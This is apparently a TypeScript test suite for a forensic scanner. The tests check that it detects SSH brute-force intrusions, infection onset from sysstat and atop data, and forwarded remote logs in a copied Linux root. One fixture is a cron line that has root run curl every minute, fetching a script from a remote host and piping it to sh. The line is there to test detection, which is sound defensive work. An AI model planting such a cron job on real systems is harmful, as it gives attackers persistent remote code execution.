/** The way in as a whole scan of a folder tells it: logs, files and findings of one root, read by the product itself. */
import { afterAll, describe, expect, test } from 'bun:test';
import { atopFile } from '../../src/formats/atop.fixture.ts';
import { everyTenMinutes, saFile } from '../../src/formats/sysstat.fixture.ts';
import { type RootFiles, scanRoots } from './scan-root.ts';

const roots = scanRoots();
afterAll(() => roots.remove());
const resultOf = roots.scan;

const address = '203.0.113.9';
const minute = 60_000;

/** Minutes before now, as rsyslog's file format writes it. */
const at = (minutes: number): string =>
  new Date(Date.now() - minutes * minute).toISOString().replace('Z', '+00:00');
const line = (minutes: number, message: string): string => `${at(minutes)} web-1 sshd[12]: ${message}\n`;
const failures = Array.from({ length: 40 }, (_, index) =>
  line(30 - index / 4, `Failed password for root from ${address} port ${40_000 + index} ssh2`),
).join('');
const accepted = line(2, `Accepted password for root from ${address} port 50000 ssh2`);
const owner = line(
  2000,
  'Accepted publickey for root from 198.51.100.4 port 50001 ssh2: ED25519 SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/abcde',
);
const system = {
  'etc/os-release': 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n',
  'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
};
const job = '* * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n';

describe('a scan of a folder with its logs', () => {
  test('tells who guessed his way in, with the lines in their order', async () => {
    const { entry = [], infectionWindow } = await resultOf({
      ...system,
      'var/log/auth.log': owner + failures + accepted,
      'etc/cron.d/update': job,
    });
    expect(entry[0]).toMatchObject({
      vector: 'ssh-brute-force',
      attackers: [address],
      account: 'root',
      service: 'sshd',
    });
    expect(['confirmed', 'probable']).toContain(entry[0]?.grade ?? '');
    const steps = entry[0]?.chain.map(({ step }) => step) ?? [];
    expect(steps.indexOf('attempt')).toBeLessThan(steps.indexOf('success'));
    expect(entry[0]?.chain.find(({ step }) => step === 'success')?.text).toContain(
      'Accepted password for root',
    );
    expect(infectionWindow).toBeDefined();
  });

  test('names nobody where the guessing failed, and the owner never', async () => {
    const { entry = [] } = await resultOf({
      ...system,
      'var/log/auth.log': owner + failures,
      'etc/cron.d/update': job,
    });
    expect(entry.filter(({ grade }) => grade !== 'possible')).toEqual([]);
    expect(JSON.stringify(entry)).not.toContain('198.51.100.4');
  });

  test('of a healthy host looks for no way in', async () => {
    const result = await resultOf({ ...system, 'var/log/auth.log': owner + failures });
    expect(result.entry ?? []).toEqual([]);
    expect(result.verdict).toBe('clean');
  });

  test('does not end at logs that are none', async () => {
    const result = await resultOf({
      ...system,
      'var/log/auth.log': `\0\0\0${'x'.repeat(200_000)}\n${accepted}`,
      'var/log/wtmp': 'no records',
      'var/log/journal/0123456789abcdef0123456789abcdef/system.journal': 'LPKSHHRHxx',
      'etc/cron.d/update': job,
    });
    expect(result.verdict).toBe('suspicious');
    expect(result.sources.some(({ artifact }) => artifact === 'linux.log.journal')).toBe(true);
  });

  test('that ran no more when it was looked at tells since when it was busy, by what sysstat and atop wrote', async () => {
    const midnight = 1_700_438_400;
    const day = (start: number, busyFrom: number) =>
      saFile({
        records: everyTenMinutes(
          start,
          Array.from({ length: 143 }, (_, index) => (index >= busyFrom * 6 ? 0.97 : 0.05)),
        ),
      });
    const samples = Array.from({ length: 96 }, (_, index) => ({
      seconds: midnight + (index + 1) * 900,
      interval: 900,
      busy: index >= 60 ? 0.97 : 0.05,
    }));
    const onsetOf = async (files: RootFiles) => {
      const { onset, entry } = await resultOf({ ...system, 'etc/cron.d/update': job, ...files });
      expect(entry).toBeDefined();
      return onset;
    };
    const expected = { time: '2023-11-20T15:00:00Z', by: 'load', certain: true };
    const sysstat = {
      'var/log/sysstat/sa19': day(midnight - 86_400, 24),
      'var/log/sysstat/sa20': day(midnight, 15),
    };
    expect(await onsetOf(sysstat)).toMatchObject(expected);
    expect(await onsetOf({ 'var/log/sa/sa20231120': day(midnight, 15) })).toMatchObject(expected);
    expect(await onsetOf({ 'var/log/atop/atop_20231120': atopFile({ samples }) })).toMatchObject(expected);
    // A line of long after it: somebody ended the history, and what came then is not known.
    const later = '2023-12-24T08:00:00+00:00 web-1 sshd[1]: Server listening on :: port 22.\n';
    expect(await onsetOf({ ...sysstat, 'var/log/auth.log': later })).toMatchObject({
      ...expected,
      certain: false,
    });
    expect(await onsetOf({ 'var/log/sysstat/sa19': day(midnight - 86_400, 24) })).toBeUndefined();
  });

  test('that receives logs of others takes theirs for none of its own', async () => {
    const rsyslog = {
      'etc/hostname': 'web-1\n',
      'etc/rsyslog.d/remote.conf': '$template Remote,"/srv/remote/%HOSTNAME%/auth"\n*.* ?Remote\n',
      'etc/cron.d/update': job,
    };
    const lines = failures + accepted;
    const of = async (name: string, host: string) =>
      (
        await resultOf({
          ...{ ...system, ...rsyslog },
          [`srv/remote/${name}/auth`]: lines.replaceAll(' web-1 ', ` ${host} `),
        })
      ).entry?.map(({ vector }) => vector);
    expect(await of('web-1', 'web-1.example.com')).toEqual(['ssh-brute-force']);
    expect(await of('db-1', 'db-1')).toEqual([]);
  });
});
